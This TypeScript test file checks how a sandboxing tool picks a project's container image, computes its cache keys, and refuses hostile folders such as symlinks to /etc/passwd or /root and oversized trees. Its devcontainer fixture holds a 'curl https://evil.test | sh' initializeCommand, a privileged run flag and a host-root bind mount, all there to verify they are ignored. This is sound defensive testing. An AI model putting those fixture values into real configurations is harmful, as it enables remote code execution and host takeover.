import { chmodSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { findImageSource } from "../../src/images/find-image-source.ts";
import { MOST_INPUTS } from "../../src/images/read-inputs.ts";
import { createProject, type Project } from "./create-project.ts";

describe("the image that a project's files ask for", () => {
  it("is of .budgie, before Dockerfile.sandbox, before .devcontainer", () => {
    const { directory, remove, write } = createProject();
    write(".devcontainer/devcontainer.json", `{ "image": "node:22" }`);
    write("Dockerfile.sandbox", "FROM python:3.12\n");
    write(".budgie/Dockerfile", "FROM golang:1.23\n");
    const files: unknown[] = [];
    for (const file of [".budgie/Dockerfile", "Dockerfile.sandbox", ".devcontainer/devcontainer.json"]) {
      files.push([findImageSource(directory)?.file, findImageSource(directory)?.dockerfile]);
      remove(file);
    }

    expect(files).toEqual([
      [".budgie/Dockerfile", "FROM golang:1.23\n"],
      ["Dockerfile.sandbox", "FROM python:3.12\n"],
      [".devcontainer/devcontainer.json", "FROM node:22\n"],
    ]);
    expect(findImageSource(directory)).toBeUndefined();
  });

  it("is built from the folder of its Dockerfile alone, and from nothing else for Dockerfile.sandbox", () => {
    const { directory, remove, write } = createProject();
    write("secret", "x");
    write("Dockerfile.sandbox", "FROM a\n");
    const alone = findImageSource(directory)?.context.map(({ path }) => path);
    remove("Dockerfile.sandbox");
    write(".devcontainer/sub/setup.sh", "true");
    write(".devcontainer/docker/Dockerfile", "FROM a\nCOPY sub /sub\n");
    write(".devcontainer/devcontainer.json", DEVCONTAINER);

    const found = findImageSource(directory);

    expect(alone).toEqual(["Dockerfile.sandbox"]);
    expect(found).toMatchObject({
      name: "docker/Dockerfile",
      args: { VERSION: "22" },
      target: "tools",
      ignored: ["customizations", "initializeCommand", "mounts", "postCreateCommand", "remoteUser", "runArgs"],
      refused: [],
    });
    expect(found?.context.map(({ path }) => path)).toEqual(["devcontainer.json", "docker/Dockerfile", "sub/setup.sh"]);
  });

  it.each<[string, (project: Project) => void]>([
    ["its Dockerfile", ({ write }) => write(".budgie/Dockerfile", "FROM a\nRUN true\n")],
    ["a file beside it", ({ write }) => write(".budgie/setup.sh", "false")],
    ["a new file beside it", ({ write }) => write(".budgie/other", "")],
    ["the mode of a file", ({ directory }) => chmodSync(join(directory, ".budgie/setup.sh"), 0o755)],
    ["the name of a file", ({ remove, write }) => (remove(".budgie/setup.sh"), write(".budgie/setup", "true"))],
    ["a link beside it", ({ directory }) => symlinkSync("/etc/passwd", join(directory, ".budgie/link"))],
  ])("has another key after a change of %s", (_, change) => {
    const project = createProject();
    project.write(".budgie/Dockerfile", "FROM a\n");
    project.write(".budgie/setup.sh", "true");
    const before = findImageSource(project.directory)?.key;
    expect(findImageSource(project.directory)?.key).toBe(before);

    change(project);

    expect(findImageSource(project.directory)?.key).not.toBe(before);
  });

  it("has another key in another directory, and with another argument or stage", () => {
    const keys = [DEVCONTAINER, DEVCONTAINER, DEVCONTAINER.replace("22", "23"), DEVCONTAINER.replace("tools", "x")].map(
      (text) => {
        const { directory, write } = createProject();
        write(".devcontainer/devcontainer.json", text);
        write(".devcontainer/docker/Dockerfile", "FROM a\n");
        return findImageSource(directory)?.key;
      },
    );

    expect(new Set(keys).size).toBe(4);
  });
});

describe("a hostile folder", () => {
  it.each<[string, (project: Project) => void, string]>([
    ["that is a symlink", ({ directory }) => symlinkSync("/etc", join(directory, ".budgie")), "symlink"],
    ["whose Dockerfile is one", (project) => project.link("/etc/passwd", ".budgie/Dockerfile"), "symlink"],
    [
      "with one in it",
      (project) => (project.write(".budgie/Dockerfile", "FROM a"), project.link("/root", ".budgie/a/b")),
      `"a/b"`,
    ],
    ["whose Dockerfile is a folder", (project) => project.write(".budgie/Dockerfile/x", ""), "no regular file"],
    ["with too many files", (project) => project.fill(MOST_INPUTS.files), `more than ${MOST_INPUTS.files} files`],
    [
      "that is too large",
      (project) => (project.fill(1), project.write(".budgie/large", "x".repeat(MOST_INPUTS.bytes))),
      "MiB",
    ],
    [
      "that is too deep",
      (project) => (project.fill(1), project.write(`.budgie/${"d/".repeat(MOST_INPUTS.depth)}f`, "")),
      "levels",
    ],
  ])("is refused by name if it is one %s, and no other file takes its place", (_, make, reason) => {
    const project = createProject();
    project.write("Dockerfile.sandbox", "FROM good\n");
    make(project);

    const found = findImageSource(project.directory);

    expect(found?.file).toBe(".budgie/Dockerfile");
    expect(found?.refused.join()).toContain(reason);
    expect(found?.dockerfile).not.toContain("root");
  });
});

const DEVCONTAINER = `{
  // As an editor writes it
  "name": "shop",
  "build": { "dockerfile": "./docker/Dockerfile", "args": { "VERSION": "22" }, "target": "tools", },
  "initializeCommand": "curl https://evil.test | sh",
  "runArgs": ["--privileged"],
  "mounts": ["source=/,target=/host,type=bind"],
  "postCreateCommand": "npm ci",
  "remoteUser": "root",
  "customizations": {},
}`;
